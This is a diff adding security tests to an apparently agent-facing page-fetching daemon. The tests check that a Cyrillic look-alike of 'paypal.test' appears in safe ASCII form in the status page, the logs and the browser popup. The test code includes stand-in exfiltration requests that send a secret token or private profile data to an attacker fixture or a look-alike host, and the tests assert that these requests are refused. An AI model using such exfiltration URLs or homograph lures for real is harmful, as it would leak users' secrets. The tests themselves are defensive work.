@@ -22,7 +22,7 @@ from tests.integration.test_profiles_daemon import site as profiled_site
 from tests.security.local import serve_html
 from tests.security.test_exit_flow_daemon import SECRET_FILE, mcp_daemon  # noqa: F401 (mcp_daemon: the fixture)
 from tests.security.test_exit_question import _a_user_who_reads
-from tests.security.test_exits import TOKEN, Server, api, fetch, page, refused, serve
+from tests.security.test_exits import TOKEN, Server, api, fetch, page, refused, serve, status
 from tests.security.test_exits import attacker as attacker  # the fixture
 from tests.security.test_mcp_roots import http_client, out_of
 
@@ -68,6 +68,25 @@ async def test_a_look_alike_host_is_named_in_a_form_that_cannot_pass_for_the_sit
     # the letters themselves appear only inside the annotation that says what they are
     assert question.count(LOOKALIKE) == question.count(f'international name "{LOOKALIKE}"'), question
     assert not out.ok and out.error is not None and out.error.code == "exit_refused", out
+
+
+async def test_the_status_page_and_the_log_show_a_look_alike_host_as_the_question_does(
+        mcp_daemon: RunningDaemon, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:  # noqa: F811
+    """The question named the look-alike in its ASCII form, but the status page's exit table, the text status and
+    the log showed "pаypal.test" as written: a user who copies the host from there into the allow list vouches for
+    the look-alike, believing it PayPal's. Every place that names a held host shows the same form as the question."""
+    async with http_client(mcp_daemon) as c:  # a client that cannot ask: the URL is held and the event recorded
+        assert out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""})).ok
+        with caplog.at_level("WARNING", logger="trawl.exits"):
+            out = out_of(await c.call_tool("fetch_page", {"url": f"http://{LOOKALIKE}/signin?s={TOKEN}",
+                                                          "query": "sign in"}))
+    assert not out.ok and out.error is not None and out.error.code == "exit_held", out
+    ev = (await status(mcp_daemon))["exits"]["events"][0]
+    logged = "\n".join(r.getMessage() for r in caplog.records if r.name == "trawl.exits")
+    for shown in (out.error.message, out.error.hint or "", ev["host"], ev["url"], ev["reason"], logged):
+        assert LOOKALIKE_ASCII in shown, shown
+        assert shown.count(LOOKALIKE) == shown.count(f'international name "{LOOKALIKE}"'), shown
+    assert "Cyrillic" in ev["host"] and "mixes" in ev["host"], ev
 
 
 async def test_a_host_that_spells_another_site_in_its_labels_is_named_by_its_own_site_first(
@@ -188,3 +207,20 @@ async def test_a_page_profile_confirms_a_private_read_only_to_a_session_that_the
             assert shown["ok"] and shown["profile"] is not None, shown
             refused(await fetch(d, f"{attacker.url}/c?read={shown['profile']['pages']}"))
     assert attacker.hits == []
+
+
+async def test_the_popup_log_names_a_look_alike_host_as_the_question_does() -> None:
+    """The extension's popup log gets each exit event's URL (``notice``): it showed ``pаypal.test`` as written."""
+    from types import SimpleNamespace
+
+    from trawl.capabilities.core import BROWSER_HUB, _tell_browser
+
+    told: list[dict[str, Any]] = []
+
+    async def notify(kind: str, **fields: Any) -> None:
+        told.append({"kind": kind, **fields})
+
+    svc: Any = SimpleNamespace(extras={BROWSER_HUB: SimpleNamespace(notify=notify)})
+    await _tell_browser(svc, "exit_held", f"http://{LOOKALIKE}/signin?s=Zq8v…", "held")
+    assert told and told[0]["kind"] == "notice", told
+    assert told[0]["what"] == f"http://{LOOKALIKE_ASCII}/signin?s=Zq8v…", told
